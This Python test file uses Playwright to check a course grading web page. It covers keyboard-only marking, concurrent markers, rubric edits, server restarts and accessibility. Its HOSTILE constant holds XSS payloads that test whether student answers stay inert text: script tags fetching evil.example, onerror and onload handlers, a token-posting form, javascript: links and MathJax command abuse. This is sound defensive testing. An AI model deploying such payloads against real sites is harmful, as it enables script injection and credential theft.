"""The page in Chromium: an item is marked by keyboard alone, two markers never meet, hostile answers stay text."""

from __future__ import annotations

import shutil
import statistics
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import marking_class
import pytest
from conftest import once
from marking_class import ESSAYS, NOTEBOOK, SOFTMAX, VARIANCE, in_gradebook
from marking_server import TOKEN, Server, served

from chainrule.course import CourseFolder
from chainrule.handin.browser import BrowserError, find_browser
from chainrule.marking.room import MarkingRoom

CLASS = marking_class.students(40)
HOSTILE = r"""
<script>document.title = 'STOLEN'; fetch('https://evil.example/')</script>
<img src=x onerror="document.title='STOLEN'"> <img src="https://evil.example/a.png">
<iframe src="//evil.example"></iframe>
<form action="https://evil.example"><input name="token"><button>Save</button></form>
<style>body { display: none }</style> <b id="save" class="buttons" onclick="alert(1)">bold</b>
[one](javascript:alert(1)) ![two](https://evil.example/b.png) <svg onload="alert(1)"></svg> \u202e

$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{y}$ $\cssId{save}{z}$
$\def\alpha{WRONG}\gdef\beta{WRONG} \alpha$
"""


@pytest.fixture(scope="module")
def made_class(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return once(tmp_path_factory, "class-of-40", lambda root: marking_class.write(root, CLASS))


@pytest.fixture(scope="module")
def server(made_class: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = Path(shutil.copytree(made_class, tmp_path_factory.mktemp("page") / "course"))
    with served(root) as running:
        yield running


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    try:
        browser = find_browser()
    except BrowserError:
        pytest.fail("install Chromium (./setup.sh does)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=browser, args=["--no-sandbox"])
        yield running
        running.close()


class Marker:
    """A marker at the keyboard, whose presses are counted."""

    def __init__(self, chromium: Any, server: Server, name: str, item: str, **options: Any) -> None:
        self.context = chromium.new_context(viewport={"width": 900, "height": 700}, **options)
        self.tab = self.context.new_page()
        self.heard: list[str] = []
        self.presses = 0
        self.tab.on("pageerror", lambda error: self.heard.append(str(error)))
        self.tab.on("dialog", lambda dialog: (self.heard.append("a dialog"), dialog.dismiss()))
        self.tab.on("request", lambda request: self.heard.append(request.url))
        self.tab.goto(f"{server.url}/marking/a/{ESSAYS}?token={TOKEN}")
        self.tab.fill("#name", name)
        with self.tab.expect_navigation():
            self.tab.click("#name-form button")
        self.tab.goto(server.page(item))
        self.wait("document.querySelector('#answer').innerHTML !== ''")

    def wait(self, condition: str) -> None:
        self.tab.wait_for_function(f"() => {condition}", timeout=30_000)  # the page forbids eval

    def type(self, *keys: str) -> None:
        for key in keys:
            self.tab.keyboard.press(key)
            self.presses += 1

    def text(self, place: str) -> str:
        return str(self.tab.text_content(place)).strip()

    def save(self, key: str = "Enter") -> None:
        before = self.tab.evaluate("() => token")
        self.type(key)
        self.wait(f"(token !== {before!r} || shown === null) && !busy || said.textContent !== ''")
        assert self.text("#said") == "" or "equal answers got the same" in self.text("#said")

    @property
    def is_done(self) -> bool:
        return bool(self.tab.evaluate("() => shown === null"))


def test_an_item_is_marked_by_keyboard_alone(chromium: Any, server: Server) -> None:
    marker = Marker(chromium, server, "ann", VARIANCE)
    presses, with_comment, given = [], [], {}
    folder = CourseFolder(server.root)
    room = MarkingRoom(folder, ESSAYS)
    while not marker.is_done:
        who, before = marker.tab.evaluate("() => shown.who"), marker.presses
        student = room.student(who)
        proposed = marker.text("#note").startswith("Filled in")
        number = len(given)
        if proposed:
            assert CLASS[student][VARIANCE]
        elif number == 0:
            marker.type("1", "c")
            marker.tab.keyboard.type("Say why.")
            marker.type("Enter")
        elif number % 5 == 0:
            marker.type("2", "c", "Enter")
        else:
            marker.type("f")
        given[student] = float(marker.text("#sum")), marker.tab.input_value("#comment")
        marker.save()
        (with_comment if given[student][1] and not proposed else presses).append(marker.presses - before)
    assert len(given) == 40
    assert statistics.median(presses) <= 2
    assert max(with_comment[1:]) <= 4
    assert {student: in_gradebook(folder, student) for student in given} == {
        student: (points, comment or None) for student, (points, comment) in given.items()
    }
    assert marker.text("#note") == "Nothing waits here: done."
    assert all(url.startswith((server.url, "data:")) for url in marker.heard)
    marker.type("u")
    marker.wait("shown !== null")
    assert marker.text("#progress-text") == "39 of 40 marked"
    marker.type("0", "g")
    marker.save()
    assert in_gradebook(folder, list(given)[-1])[0] == 0.0
    marker.context.close()


def test_two_browsers_at_once_get_no_answer_twice_and_lose_none(chromium: Any, server: Server) -> None:
    markers = [Marker(chromium, server, name, SOFTMAX) for name in ("ann", "bo")]
    seen: list[str] = []
    while not all(marker.is_done for marker in markers):
        for marker in markers:
            if not marker.is_done:
                seen.append(marker.tab.evaluate("() => shown.who"))
                if marker.text("#note").startswith("Filled in"):
                    marker.save()
                else:
                    marker.type("1")
                    marker.save("a" if marker.tab.evaluate("() => shown.equal") else "Enter")
    assert len(seen) == len(set(seen))
    folder = CourseFolder(server.root)
    assert {in_gradebook(folder, student, SOFTMAX)[0] for student in CLASS} == {0.5}
    page = markers[0].tab
    page.goto(f"{server.url}/marking/a/{ESSAYS}")
    assert "ann: " in page.text_content("table")
    assert "bo: " in page.text_content("table")
    for marker in markers:
        marker.context.close()


def test_a_row_is_changed_after_a_preview_for_everybody_who_has_it(
    chromium: Any, small_class: Path, tmp_path: Path
) -> None:
    folder = marking_class.copied(small_class, tmp_path / "course")
    with served(folder.root) as server:
        marker = Marker(chromium, server, "ann", VARIANCE)
        for _ in range(2):
            if not marker.text("#note").startswith("Filled in"):
                marker.type("1", "2")
            marker.save()
        marker.tab.click("#rubric-box summary")
        marker.tab.select_option("#row-id", index=2)
        marker.tab.fill("#row-points", "0.2")
        marker.tab.click("#row-form button")
        marker.wait("!document.querySelector('#row-agree').hidden")
        assert marker.text("#row-said") in ("2 answers, −0.1 each", "1 answer, −0.1")
        marker.tab.click("#row-agree")
        marker.wait("document.querySelector('#row-said').textContent.startsWith('Done')")
        room = MarkingRoom(folder, ESSAYS)
        with room.database.transaction() as connection:
            marks = room.marks(connection, room.item(NOTEBOOK, VARIANCE))
        assert {mark.points for mark in marks.values() if mark.points} == {0.4}
        marker.tab.click("#write-scheme")
        marker.wait("document.querySelector('#scheme-said').textContent !== ''")
        assert "| 0.2 | the variance" in room.work.source_path(room.item(NOTEBOOK, VARIANCE)).read_text()
        marker.context.close()


def test_a_killed_server_costs_no_tick(chromium: Any, small_class: Path, tmp_path: Path) -> None:
    folder = marking_class.copied(small_class, tmp_path / "course")
    with served(folder.root, "--as", "ann") as server:
        context = chromium.new_context()
        tab = context.new_page()
        tab.goto(server.with_token(server.page()))
        tab.wait_for_function("() => shown !== null")
        student = MarkingRoom(folder, ESSAYS).student(tab.evaluate("() => shown.who"))
        tab.keyboard.press("2")
        server.kill()
        tab.keyboard.press("Enter")
        tab.wait_for_function("() => said.textContent.includes('Trying again')")
        with served(folder.root, "--as", "ann", port=server.port):
            tab.wait_for_function("() => said.textContent === ''", timeout=60_000)
        assert in_gradebook(folder, student)[0] == 0.3
        context.close()


def test_hostile_answers_stay_text_and_axe_finds_nothing(
    chromium: Any, small_class: Path, tmp_path: Path
) -> None:
    from axe_playwright_python.sync_playwright import Axe

    folder = marking_class.copied(small_class, tmp_path / "course")
    for student in ("ada", "bob", "cyd", "dee"):
        marking_class.hand_in(folder, student, {VARIANCE: HOSTILE, SOFTMAX: r"$\alpha + \beta$"})
    with served(folder.root) as server:
        marker = Marker(chromium, server, "ann", VARIANCE, bypass_csp=False)
        assert marker.tab.title() == f"{VARIANCE}, {ESSAYS}"
        assert marker.tab.locator("#answer script, #answer iframe, #answer form, #answer style").count() == 0
        assert marker.tab.locator("#answer [onclick], #answer [onerror], #answer #save").count() == 0
        assert "[U+202E]" in marker.text("#answer") or "u202e" in marker.text("#answer")
        marker.type("1")
        marker.save()
        for url in marker.heard:
            assert url.startswith((server.url, "data:")), url
        marker.context.close()
        plain = Marker(chromium, server, "ann", SOFTMAX)
        drawn = plain.tab.locator("#answer svg").last.evaluate("svg => svg.querySelectorAll('use').length")
        assert drawn == 3  # α + β: no other student's macro
        plain.context.close()
        for scheme in ("light", "dark"):
            shown = Marker(chromium, server, "bo", VARIANCE, color_scheme=scheme, bypass_csp=True)
            shown.type("1", "v", "m", "c")
            for page in (shown.tab.url, f"{server.url}/marking/a/{ESSAYS}"):
                if page != shown.tab.url:
                    shown.tab.goto(page)
                found = Axe().run(shown.tab).response["violations"]
                assert [(one["id"], one["nodes"][0]["html"]) for one in found] == [], (scheme, page)
                assert shown.tab.evaluate("() => document.documentElement.scrollWidth") <= 900
            shown.context.close()
